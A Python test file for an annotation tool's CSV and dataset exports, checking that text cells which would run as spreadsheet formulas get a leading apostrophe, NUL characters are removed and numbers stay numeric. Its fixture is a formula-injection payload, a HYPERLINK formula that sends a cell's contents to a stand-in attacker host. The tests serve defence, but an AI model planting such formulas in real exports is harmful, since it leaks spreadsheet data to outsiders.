"""Text that a spreadsheet would run as a formula (labels, annotators, notes from an imported tier or a shared
vocabulary) is written to every CSV file with a leading apostrophe; numbers stay numbers; NUL characters go."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from app.export.dataset import export_dataset
from app.export.files import all_or_nothing, write_csv
from app.export.table import export_table
from app.model.csv_cells import safe_cell
from app.model.records import NewLabel, segment_key
from app.pipelines.analyze import analyze_audio
from app.pipelines.audio import RUN_AUDIO_PEAKS, TRACK_AUDIO_PEAK
from app.project.store import Store
from tests.helpers.exports import read_csv

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_text_cells_that_start_a_formula_get_an_apostrophe() -> None:
    cells = [FORMULA, "+1+2", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd", "a=b", "", "'=quoted", "e\x00vil", "=\x00x"]
    assert [safe_cell(cell) for cell in cells] == [
        f"'{FORMULA}",
        "'+1+2",
        "'-2+3",
        "'@SUM(A1)",
        "'\tcmd",
        "'\rcmd",
        "a=b",
        "",
        "'=quoted",
        "evil",
        "'=x",
    ]
    assert [safe_cell(value) for value in (-1.5, -3, 0.0, True, None)] == [-1.5, -3, 0.0, True, None]


def test_the_csv_writer_keeps_negative_numbers_and_quotes_negative_looking_text(tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    with all_or_nothing(False, tmp_path) as outputs:
        write_csv(outputs, path, ("z", "label", "note"), [{"z": -1.25, "label": "-1.25", "note": "\x00=1"}])
    assert path.read_bytes() == b"z,label,note\r\n-1.25,'-1.25,'=1\r\n"


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory, talk_video: Path) -> Path:
    """The talk video analysed, its first flagged segment labelled with a vocabulary value, an annotator and a note
    that start formulas (as an imported tier or a shared vocabulary can bring them)."""
    folder = tmp_path_factory.mktemp("injection")
    path = folder / "talk.salient"
    analyze_audio(shutil.copy(talk_video, folder / "talk.mp4"), path)
    with Store.open(path) as store:
        record = store.all_media()[0]
        first = store.segments(store.latest_run(record.id, RUN_AUDIO_PEAKS).id, TRACK_AUDIO_PEAK)[0]
        entry = store.add_vocabulary_entry(FORMULA, "#ff0000")
        key = segment_key(TRACK_AUDIO_PEAK, first.start_ms, first.end_ms)
        label = NewLabel(first.start_ms, first.end_ms, entry, "audio_peak", first.peak_ms, key, 2, 0.5, "-2+3\x00cmd")
        store.add_label(record.id, label, "@evil")
        store.add_label(record.id, NewLabel(7000, 8500, entry, "selection", note="\tTAB"), "+plus")
    return path


def _cells(row: dict[str, str]) -> tuple[str, ...]:
    return row["label"], row["annotator"], row["note"]


def test_the_table_of_segments_neutralises_text_but_not_numbers(project: Path, tmp_path: Path) -> None:
    with Store.open(project) as store:
        first = store.segments(store.latest_run(1, RUN_AUDIO_PEAKS).id, TRACK_AUDIO_PEAK)[0]
        path = export_table(store, tmp_path / "segments.csv", "csv", labels_only=True)
    _columns, rows = read_csv(path)
    assert [_cells(row) for row in rows] == [
        (f"'{FORMULA}", "'@evil", "'-2+3cmd"),
        (f"'{FORMULA}", "'+plus", "'\tTAB"),
    ]
    assert (rows[0]["intensity"], rows[0]["confidence"], rows[0]["z"]) == ("2", "0.5", str(round(first.score, 4)))
    assert "\x00" not in path.read_text(encoding="utf-8")


def test_the_datasets_metadata_neutralises_text_and_its_json_lines_keep_it(project: Path, tmp_path: Path) -> None:
    with Store.open(project) as store:
        out = export_dataset(store, tmp_path / "ds", labels_only=True).path
    for modality in ("audio", "video"):
        _columns, rows = read_csv(out / modality / "metadata.csv")
        assert [_cells(row) for row in rows] == [
            (f"'{FORMULA}", "'@evil", "'-2+3cmd"),
            (f"'{FORMULA}", "'+plus", "'\tTAB"),
        ]
    typed = [json.loads(line) for line in (out / "audio.jsonl").read_text(encoding="utf-8").splitlines()]
    assert [(row["label"], row["annotator"], row["note"]) for row in typed] == [
        (FORMULA, "@evil", "-2+3\x00cmd"),
        (FORMULA, "+plus", "\tTAB"),
    ]
